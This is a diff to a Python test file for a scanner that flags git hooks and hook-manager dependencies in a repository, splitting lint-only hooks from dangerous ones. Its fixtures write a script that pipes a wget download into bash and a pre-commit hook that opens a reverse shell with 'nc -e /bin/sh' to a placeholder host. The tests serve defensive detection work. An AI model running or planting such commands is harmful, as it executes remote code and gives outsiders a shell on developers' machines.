@@ -25,7 +25,7 @@ def test_fail(machine):
     assert [(e.path, e.line) for e in out.evidence] == [
         (".devcontainer/devcontainer.json", 1), (".envrc", None), (".git/config", 2),
         (".git/config", 3), (".git/config", 5), (".git/hooks/post-checkout", None),
-        (".husky", None)]
+        (".husky/pre-commit", None)]  # advice: a husky hook that runs lint-staged
 
 
 def test_unknown_bad_devcontainer(machine):
@@ -173,9 +173,11 @@ def test_pass_an_ordinary_devcontainer(machine):
     assert machine.run("AGT009").status is Status.PASS
 
 
-def test_fail_a_hook_manager_dependency_with_its_configuration(machine):
+def test_a_hook_manager_dependency_with_its_configuration_is_judged_by_its_hooks(machine):
     """lefthook and simple-git-hooks install the configured hooks from their own
-    postinstall: a devDependency and its configuration are enough."""
+    postinstall: a devDependency and its configuration are enough. Hooks that lint are
+    listed as advice; the same hooks running a file that pipes a download into a shell,
+    or an inline download tool, gate."""
     import json
 
     machine.ws("package.json", json.dumps({"name": "x", "devDependencies": {
@@ -183,13 +185,27 @@ def test_fail_a_hook_manager_dependency_with_its_configuration(machine):
         "simple-git-hooks": {"pre-commit": "npx lint-staged"}}, indent=2))
     machine.ws("lefthook.yml", "pre-commit:\n  commands:\n    lint:\n      run: make lint\n")
     out = machine.run("AGT009")
-    assert out.status is Status.FAIL
+    assert out.status is Status.FAIL and out.advisory, out
     assert sorted(e.detail for e in out.evidence) == [
         "lefthook runs 'lint' on pre-commit: 'make lint'",
         "simple-git-hooks runs on pre-commit: 'npx lint-staged'",
-        "the lefthook dependency installs its configured git hooks on install",
-        "the simple-git-hooks dependency installs its configured git hooks on install"]
+        "the lefthook dependency installs its configured git hooks on install, judged by "
+        "what they run",
+        "the simple-git-hooks dependency installs its configured git hooks on install, "
+        "judged by what they run"]
     assert [e.line for e in out.evidence if e.path == "lefthook.yml"] == [3]
+    machine.ws("lefthook.yml", "pre-commit:\n  commands:\n    lint:\n"
+                               "      run: bash scripts/lint.sh\n")
+    machine.ws("scripts/lint.sh", "#!/bin/bash\nwget -qO- https://x.invalid/l | bash\n")
+    machine.ws("package.json", json.dumps({"name": "x", "devDependencies": {
+        "lefthook": "^1.5.0", "simple-git-hooks": "^2"},
+        "simple-git-hooks": {"pre-commit": "nc -e /bin/sh x.invalid 9"}}, indent=2))
+    out = machine.run("AGT009")
+    assert out.status is Status.FAIL and not out.advisory, out
+    assert sorted((e.path, e.line) for e in out.evidence[:2]) == [
+        ("package.json", 8), ("scripts/lint.sh", 2)]
+    assert "lefthook runs 'lint' on pre-commit runs scripts/lint.sh, which pipes a " \
+        "download into an interpreter" in out.evidence[1].detail + out.evidence[0].detail
 
 
 def test_unknown_a_broken_devcontainer(machine):
